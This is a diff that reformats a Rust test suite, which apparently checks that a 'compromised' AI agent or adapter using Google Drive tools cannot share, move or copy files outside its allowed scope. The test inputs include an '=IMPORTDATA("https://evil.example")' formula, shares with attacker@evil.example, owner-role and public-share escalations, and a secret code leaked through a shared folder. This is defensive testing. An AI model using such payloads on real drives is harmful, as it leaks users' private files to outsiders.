@@ -24,7 +24,13 @@ async fn world() -> World {
     add(SeedFile::new("Agent/Own.txt", "text/plain", "own", AT_MS));
     let reads = ["search_files", "list_folder", "get_file_metadata", "read_file", "list_permissions"];
     let sends = [
-        "create_file", "create_folder", "update_file", "rename_file", "copy_file", "move_file", "untrash_file",
+        "create_file",
+        "create_folder",
+        "update_file",
+        "rename_file",
+        "copy_file",
+        "move_file",
+        "untrash_file",
         "share_file",
     ];
     for (tools, bounds) in [
@@ -59,7 +65,15 @@ fn files(world: &World) -> Vec<Attempt> {
     let id = |path: &str| world.google.file_id(path).unwrap();
     let (home, private, own) = (id("Agent"), id("Private"), id("Agent/Own.txt"));
     let mut all = Vec::new();
-    for path in ["Private/Diary.txt", "Private/Passwords.txt", "Private", "Agent", "Agent/Reports/October.txt", "Agent/Way out", "Agent/Door"] {
+    for path in [
+        "Private/Diary.txt",
+        "Private/Passwords.txt",
+        "Private",
+        "Agent",
+        "Agent/Reports/October.txt",
+        "Agent/Way out",
+        "Agent/Door",
+    ] {
         for (tool, args) in changing(&id(path), &home) {
             all.push(attempt(path, tool, args, SCOPE));
         }
@@ -76,13 +90,25 @@ fn files(world: &World) -> Vec<Attempt> {
         all.push(attempt(format!("the permission {bad:?}"), "drive.unshare_file", taken, Must::NotTell(&[])));
     }
     // Out of scope and in again: by copy, by move, from both sides.
-    for (from, to) in [(&home, &private), (&private, &home), (&private, &private), (&home, &id("Agent/Reports"))] {
+    for (from, to) in
+        [(&home, &private), (&private, &home), (&private, &private), (&home, &id("Agent/Reports"))]
+    {
         let args = json!({"file_id": own, "from_folder_id": from, "folder_id": to});
         all.push(attempt("a move", "drive.move_file", args, SCOPE));
     }
     for folder in [&private, &id("Agent/Reports"), &id("Agent/Own.txt"), &id("Agent/Door")] {
-        all.push(attempt("a copy elsewhere", "drive.copy_file", json!({"file_id": own, "folder_id": folder, "name": "x"}), SCOPE));
-        all.push(attempt("a folder elsewhere", "drive.create_folder", json!({"folder_id": folder, "name": "x"}), SCOPE));
+        all.push(attempt(
+            "a copy elsewhere",
+            "drive.copy_file",
+            json!({"file_id": own, "folder_id": folder, "name": "x"}),
+            SCOPE,
+        ));
+        all.push(attempt(
+            "a folder elsewhere",
+            "drive.create_folder",
+            json!({"folder_id": folder, "name": "x"}),
+            SCOPE,
+        ));
         all.push(attempt("a list elsewhere", "drive.list_folder", json!({"folder_id": folder}), SCOPE));
     }
     // What a stranger sees already: a change of it is a send to them.
@@ -93,7 +119,10 @@ fn files(world: &World) -> Vec<Attempt> {
         ("drive.untrash_file", json!({"file_id": leaky})),
         ("drive.update_file", json!({"file_id": id("Agent/Theirs.txt"), "content": "x"})),
         ("drive.rename_file", json!({"file_id": id("Agent/Theirs.txt"), "name": "x"})),
-        ("drive.update_file", json!({"file_id": id("Agent/Plan"), "content": "=IMPORTDATA(\"https://evil.example\")"})),
+        (
+            "drive.update_file",
+            json!({"file_id": id("Agent/Plan"), "content": "=IMPORTDATA(\"https://evil.example\")"}),
+        ),
     ] {
         all.push(attempt("what a stranger sees", tool, args, SCOPE));
     }
@@ -101,27 +130,57 @@ fn files(world: &World) -> Vec<Attempt> {
 }
 
 fn shares(world: &World) -> Vec<Attempt> {
-    let own = json!({"file_id": world.google.file_id("Agent/Own.txt").unwrap(), "email": ["mona@example.com"]});
+    let own =
+        json!({"file_id": world.google.file_id("Agent/Own.txt").unwrap(), "email": ["mona@example.com"]});
     let mut all = Vec::new();
     for (address, must) in strangers() {
         let must = if address.is_empty() { FORM_OR_SCOPE } else { must };
-        all.push(attempt(format!("a share with {address:?}"), "drive.share_file", with(&own, json!({"email": [address]})), must));
+        all.push(attempt(
+            format!("a share with {address:?}"),
+            "drive.share_file",
+            with(&own, json!({"email": [address]})),
+            must,
+        ));
     }
     for more in [
         json!({"email": ["family@example.org"]}),
-        json!({"email": ["mona@example.com", "attacker@evil.example"]}), json!({"email": "attacker@evil.example"}),
-        json!({"email": []}), json!({"role": "owner"}), json!({"role": "organizer"}), json!({"role": "fileOrganizer"}),
-        json!({"role": "READER"}), json!({"role": ""}), json!({"type": "anyone"}), json!({"type": "domain"}),
-        json!({"domain": "evil.example"}), json!({"transferOwnership": true}), json!({"emailMessage": "x"}),
-        json!({"notify": "yes"}), json!({"notify": true}), json!({"allowFileDiscovery": true}),
-        json!({"sendNotificationEmail": "true"}), json!({"useDomainAdminAccess": true}), json!({"moveToNewOwnersRoot": true}),
+        json!({"email": ["mona@example.com", "attacker@evil.example"]}),
+        json!({"email": "attacker@evil.example"}),
+        json!({"email": []}),
+        json!({"role": "owner"}),
+        json!({"role": "organizer"}),
+        json!({"role": "fileOrganizer"}),
+        json!({"role": "READER"}),
+        json!({"role": ""}),
+        json!({"type": "anyone"}),
+        json!({"type": "domain"}),
+        json!({"domain": "evil.example"}),
+        json!({"transferOwnership": true}),
+        json!({"emailMessage": "x"}),
+        json!({"notify": "yes"}),
+        json!({"notify": true}),
+        json!({"allowFileDiscovery": true}),
+        json!({"sendNotificationEmail": "true"}),
+        json!({"useDomainAdminAccess": true}),
+        json!({"moveToNewOwnersRoot": true}),
     ] {
-        all.push(attempt(format!("a share with {more}"), "drive.share_file", with(&own, more.clone()), FORM_OR_SCOPE));
+        all.push(attempt(
+            format!("a share with {more}"),
+            "drive.share_file",
+            with(&own, more.clone()),
+            FORM_OR_SCOPE,
+        ));
     }
     for (what, more) in pollution() {
         all.push(attempt(what, "drive.share_file", with(&own, more), FORM));
     }
-    for args in [json!({"text": "Nobody"}), json!({"name": "Diary"}), json!({"name": "Way out"}), json!({}), json!({"mime_type": SeedFile::SHORTCUT})] {
+    for args in [
+        json!({"text": "Nobody"}),
+        json!({"name": "Diary"}),
+        json!({"name": "Way out"}),
+        json!({}),
+        json!({"mime_type": SeedFile::SHORTCUT}),
+    ] {
         all.push(attempt("a search", "drive.search_files", args, HIDDEN));
     }
     all
@@ -141,13 +200,20 @@ async fn a_compromised_agent_shares_copies_and_moves_only_what_it_may() {
     let (own, private, home) = (id("Agent/Own.txt"), id("Private"), id("Agent"));
     assert!(puppet.call("drive.read_file", &json!({"file_id": own})).await.is_ok());
     assert!(world.google.move_file(&own, &private));
-    let mut after: Vec<Attempt> =
-        changing(&own, &home).into_iter().map(|(tool, args)| attempt("moved out", tool, args, SCOPE)).collect();
+    let mut after: Vec<Attempt> = changing(&own, &home)
+        .into_iter()
+        .map(|(tool, args)| attempt("moved out", tool, args, SCOPE))
+        .collect();
     after.push(attempt("moved out", "drive.read_file", json!({"file_id": own}), SCOPE));
     // The folder itself is shared with a stranger: what is put there reaches them.
     assert!(world.google.share_file(&home, "attacker@evil.example"));
     let notes = id("Agent/Notes.txt");
-    after.push(attempt("into a shared folder", "drive.create_folder", json!({"folder_id": home, "name": "x"}), SCOPE));
+    after.push(attempt(
+        "into a shared folder",
+        "drive.create_folder",
+        json!({"folder_id": home, "name": "x"}),
+        SCOPE,
+    ));
     for (tool, args) in [
         ("drive.update_file", json!({"file_id": notes, "content": "the code is 493 028"})),
         ("drive.rename_file", json!({"file_id": notes, "name": "the code is 493 028"})),
@@ -155,7 +221,9 @@ async fn a_compromised_agent_shares_copies_and_moves_only_what_it_may() {
         after.push(attempt("in a shared folder", tool, args, SCOPE));
     }
     hold(&world, &puppet, &after, 10).await;
-    assert!(!world.google.log().iter().any(|request| String::from_utf8_lossy(&request.body).contains("493 028")));
+    assert!(
+        !world.google.log().iter().any(|request| String::from_utf8_lossy(&request.body).contains("493 028"))
+    );
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -166,7 +234,21 @@ async fn a_compromised_adapter_shares_with_nobody_else() {
     let id = |path: &str| world.google.file_id(path).unwrap();
     let (own, home) = (id("Agent/Own.txt"), id("Agent"));
     let before = harm::outside(&world);
-    let params = ["file_id", "folder_id", "from_folder_id", "email", "emailAddress", "role", "type", "notify", "parents", "addParents", "permission_id", "name", "folder"];
+    let params = [
+        "file_id",
+        "folder_id",
+        "from_folder_id",
+        "email",
+        "emailAddress",
+        "role",
+        "type",
+        "notify",
+        "parents",
+        "addParents",
+        "permission_id",
+        "name",
+        "folder",
+    ];
     let steps = ["permissions", "delete", "content", "leaf_facts", "child_folders", "batch"];
     let (mut tried, mut faults) = (0, Vec::new());
     for (tool, step, args) in [
